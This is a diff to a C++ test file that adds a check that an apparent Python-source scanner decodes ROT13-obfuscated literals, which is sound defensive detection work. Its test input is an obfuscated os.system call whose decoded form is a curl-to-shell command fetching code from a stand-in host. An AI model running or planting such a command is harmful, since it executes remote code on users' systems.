@@ -26,5 +26,12 @@ TEST(PythonSource, OnlyPlainUsesOfSingleBindingsAreReplaced) {
   EXPECT_EQ(read_python(src).joined, src);
 }
 
+TEST(PythonSource, Rot13LiteralsAreDecoded) {
+  const PythonView v = read_python("import codecs,os;os.system(codecs.decode('phey -f uggc://k.rknzcyr/k | fu','rot13'))");
+  ASSERT_EQ(v.rot13.size(), 1u);
+  EXPECT_EQ(v.rot13[0].text, "curl -s http://x.example/x | sh");
+  EXPECT_TRUE(read_python("codecs.decode(data, 'utf-8')").rot13.empty());
+}
+
 }  // namespace
 }  // namespace nonaxis::ciso::detail
